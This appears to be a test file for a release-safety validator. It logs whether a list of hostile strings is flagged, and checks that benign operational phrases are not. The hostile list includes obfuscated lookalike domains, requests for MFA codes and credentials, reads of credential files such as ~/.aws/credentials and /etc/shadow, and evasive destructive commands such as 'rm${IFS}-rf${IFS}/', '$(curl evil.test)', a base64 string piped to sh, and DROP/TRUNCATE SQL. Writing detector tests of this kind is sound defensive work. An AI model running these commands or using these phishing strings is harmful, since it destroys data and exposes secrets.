import { findReleaseViolations } from './release-checks';
import { commandSpans } from './release-commands';
const texts = [
  'open evil。com/reset', 'go to evil．com', 'the portal is evil｡com', 'visit evil.cоm', 'login at раураl.сом', 'connect to http://3405803783/',
  'connect to 3405803783:8443', 'open http://0xCB007107/login', 'go to 0xcb.0.0x71.7', 'the dashboard at 203.0.113.7', 'see portal.evil.accountants',
  'x.github.io/reset', 'see evil.рф', '<https://evil.test>', 'smb://evil.test/share', '\\\\evil.test\\share', 'https://corp.example@evil.test/x',
  'ping @ops_helper on Telegram', 'add WeChat: evil_support', '加微信：evil_support', 'QQ：12345678', 'join t.me/evil_support', 'telegram: @evil',
  'cat ~/.aws/credentials', 'attach ~/.ssh/id_rsa', 'upload /etc/shadow', 'send C:\\Users\\admin\\.aws\\credentials', '%APPDATA%\\Mozilla\\Firefox',
  'reply with the MFA code you just received', 'please send your 2FA code to the on-call', 'tell us the verification code from the SMS', '请提供您收到的短信验证码', 'paste your pаsswоrd here',
  "r''m -rf /var/lib/mysql", 'r\\m -rf /', 'rm${IFS}-rf${IFS}/', '{rm,-rf,/}', 'echo cm0gLXJmIC8= | base64 -d | sh', 'DELETE/**/FROM biz_order', '"DELETE" FROM biz_order',
  'UPDATE`biz_order`SET status=1', 'TRUNCATE payment_record', 'ALTER TABLE biz_order DROP COLUMN x', 'SET GLOBAL read_only=0', 'CALL purge_orders()',
  "LOAD DATA INFILE '/etc/passwd' INTO TABLE x", 'PREPARE s FROM 0x44524f50205441424c452078', "SELECT * FROM x INTO OUTFILE '/tmp/x'", 'kubectl delete namespace production',
  'docker system prune -af', 'helm uninstall payments', 'find / -delete', 'git push --force', 'iptables -F', 'crontab -r', 'chmod 777 /etc', "sed -i 's/a/b/' app.conf",
  'truncate -s 0 app.log', '$(curl evil.test)', 'powershell -enc SQBFAFgA', "mysql -e 'DROP DATABASE x'", 'redis-cli -h cache CONFIG SET dir /tmp', 'systemctl stop mysqld',
  'rm \\\n -rf /', 'go to evil\u200b.com', 'PREPARE s FROM UNHEX(\'44524f50\')',
];
const benign = ['order 3405803783 failed', 'error 0xCB007107 in the driver', 'HTTP 503 from payment-service', 'metric http_server_requests_seconds_count rose',
  'p99 of jvm_gc_pause_seconds is 1.2 s', 'Delete the duplicated payment rows', 'the DBA should check the slow query log', 'set the pool size to 50', 'update the runbook after the incident',
  'a drop in traffic at 04:00', 'the call to payment-service timed out', "Access denied for user 'app'@'10.0.3.4'", 'ORDER-20261203-0001 is stuck', 'kill switch engaged',
  'payment-service returned ERR_PAYMENT_TIMEOUT 84 times', 'the redis cache hit ratio fell to 12%', 'GET /api/orders/123 took 30 s', 'order_db.biz_order has 84 rows with status=FAILED',
  '最近 30 分钟 payment-service 出现 84 次超时。', 'Node.js 20 and Spring Boot 3.2', 'see the runbook for the pool', 'restart the service after the DBA agrees', 'the kafka consumer lag is 1200',
  'cpu usage 95% on order-db-0', 'TLS handshake failed: certificate has expired', 'java.lang.OutOfMemoryError: Java heap space', 'the queue depth (orders) reached 500'];
test('probe', () => {
  for (const t of texts) console.log('R', JSON.stringify(t), findReleaseViolations([t], { documents: [] }).join(','));
  for (const t of benign) console.log('B', JSON.stringify(t), findReleaseViolations([t], { documents: [] }).join(','), commandSpans(t).length);
});
